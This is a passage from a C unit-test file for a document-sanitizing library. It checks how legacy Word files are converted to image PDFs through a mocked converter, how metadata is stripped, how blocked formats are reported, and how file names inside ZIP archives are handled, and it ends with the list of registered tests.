	assert_int_equal(sk_buf_adds(&pdf, "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
					   "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
					   "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] "
					   "/Info 9 0 R >> endobj\ntrailer << /Root 1 0 R /Info << /Author "
					   "(x) >> >>\n%%EOF\n"),
			 0);
	fake_office img = {.want_from = "doc", .want_target = SK_CONVERT_IMAGE, .reply = &pdf};
	opt.convert_ctx = &img;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	dump_report(&r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_int_equal(img.calls, 1);
	assert_int_equal(img.got.dpi, 200);
	assert_int_equal(img.got.max_pages, 7);
	assert_string_equal(r.res.report.out_ext, "pdf");
	assert_true(r.out.len > 5 && !memcmp(r.out.data, "%PDF-", 5));
	assert_null(memmem(r.out.data, r.out.len, "/Author", 7)); /* rebuilt by the PDF module */
	assert_true(reported(&r, SK_ACTION_CONVERTED, "image", NULL));
	bool said = false;
	for (size_t i = 0; i < r.res.report.n; i++)
		said = said || (r.res.report.v[i].detail &&
				strstr(r.res.report.v[i].detail, "doc→pdf, 1 page, 200 dpi, OCR jpn 1"));
	assert_true(said);
	tu_free(&r);
	/* what comes back must be a PDF; a failure blocks with the hook's reason */
	img.reply = &doc;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_WORKER_CRASH);
	assert_int_equal(r.out.len, 0);
	tu_free(&r);
	img.reply = NULL;
	img.fail = SK_REASON_LIMIT_PAGES;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_PAGES);
	tu_free(&r);
	/* the built-in image profile: docx (and the doc) into images too; no hook: blocked */
	const sk_profile *ip = sk_profile_find("image");
	assert_non_null(ip);
	assert_true(ip->pdf_image && ip->ooxml_image && ip->damaged_pdf_image);
	for (int fam = 0; fam < SK_LEGACY__COUNT; fam++)
		assert_int_equal(ip->legacy[fam], SK_LEGACY_IMAGE);
	opt.profile = ip;
	img.reply = &pdf;
	img.want_from = "docx";
	tu_process(conv.data, conv.len, "a.docx", &opt, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_string_equal(r.res.report.out_ext, "pdf");
	assert_int_equal(img.got.dpi, 0);
	tu_free(&r);
	/* in a ZIP beside a PDF of the same name: both kept, the second under a free name */
	{
		ent both[] = {{.name = "d/報告.docx", .data = (const char *)conv.data, .len = conv.len},
			      {.name = "d/報告.pdf", .data = (const char *)pdf.data, .len = pdf.len}};
		sk_buf zb;
		mkzip(&zb, both, 2);
		img.want_from = NULL; /* docx, then pdf */
		tu_process(zb.data, zb.len, "both.zip", &opt, &r);
		dump_report(&r);
		assert_verdict(&r, SK_VERDICT_SANITIZED);
		assert_true(zhas(&r.out, "d/報告.pdf"));
		assert_true(zhas(&r.out, "d/報告 (2).pdf"));
		assert_false(zhas(&r.out, "d/報告.docx"));
		tu_free(&r);
		sk_buf_free(&zb);
		img.want_from = "docx";
	}
	opt.convert = NULL;
	tu_process(conv.data, conv.len, "a.docx", &opt, &r);
	assert_reason(&r, SK_REASON_INTERNAL);
	tu_free(&r);
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_UNSUPPORTED_LEGACY_OFFICE);
	tu_free(&r);
	opt.convert = fake_convert;
	opt.convert_ctx = &fo;
	opt.profile = &p;
	sk_buf_free(&pdf);
	/* another family's setting does not touch doc */
	p.legacy[SK_LEGACY_DOC] = SK_LEGACY_CONVERT;
	p.legacy[SK_LEGACY_XLS] = SK_LEGACY_BLOCK;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	tu_free(&r);
	assert_int_equal(fo.calls, calls + 1);

	/* RTF and ODF keep their own unsupported reasons when blocked */
	p.legacy[SK_LEGACY_RTF] = SK_LEGACY_BLOCK;
	tu_process("{\\rtf1\\ansi hello}", 18, "a.rtf", &opt, &r);
	assert_reason(&r, SK_REASON_UNSUPPORTED_RTF);
	tu_free(&r);
	opt.convert = NULL;
	ent odt[] = {{.name = "mimetype", .data = "application/vnd.oasis.opendocument.text", .store = true},
		     {.name = "content.xml", .data = "<x/>"}};
	sk_buf ob;
	mkzip(&ob, odt, 2);
	tu_process(ob.data, ob.len, "a.odt", &opt, &r);
	assert_string_equal(r.res.type.code, "odt");
	assert_reason(&r, SK_REASON_UNSUPPORTED_ODF);
	tu_free(&r);
	sk_buf_free(&ob);

	sk_buf_free(&zin);
	sk_buf_free(&conv);
	sk_buf_free(&doc);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(clean_docx),
		cmocka_unit_test(macro_docm),
		cmocka_unit_test(activex),
		cmocka_unit_test(ole_object),
		cmocka_unit_test(custom_ui),
		cmocka_unit_test(attached_template),
		cmocka_unit_test(external_rels),
		cmocka_unit_test(dde_fields),
		cmocka_unit_test(xlsx_parts),
		cmocka_unit_test(pptx_parts),
		cmocka_unit_test(metadata),
		cmocka_unit_test(comments_revisions),
		cmocka_unit_test(repair_content_types),
		cmocka_unit_test(dangling_rels),
		cmocka_unit_test(xml_edge_cases),
		cmocka_unit_test(xxe_and_entities),
		cmocka_unit_test(broken_packages),
		cmocka_unit_test(parts_and_images),
		cmocka_unit_test(encrypted_entry),
		cmocka_unit_test(limits),
		cmocka_unit_test(alloc_failures),
		cmocka_unit_test(node_limit),
		cmocka_unit_test(node_limit_streamed),
		cmocka_unit_test(time_limit),
		cmocka_unit_test(encrypted_office),
		cmocka_unit_test(legacy_convert),
		cmocka_unit_test(no_content_types_detected),
		cmocka_unit_test(corpus),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	xmlCleanupParser();
	return rc;
}
